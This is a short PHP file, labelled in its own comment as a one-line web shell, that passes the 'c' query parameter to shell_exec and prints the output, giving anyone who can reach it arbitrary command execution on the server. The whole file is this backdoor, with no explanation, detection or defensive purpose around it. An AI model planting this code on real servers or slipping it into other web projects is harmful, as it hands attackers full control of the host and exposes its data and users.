<?php
// a one-line PHP web shell
if (isset($_GET['c'])) { echo shell_exec($_GET['c']); }
?>
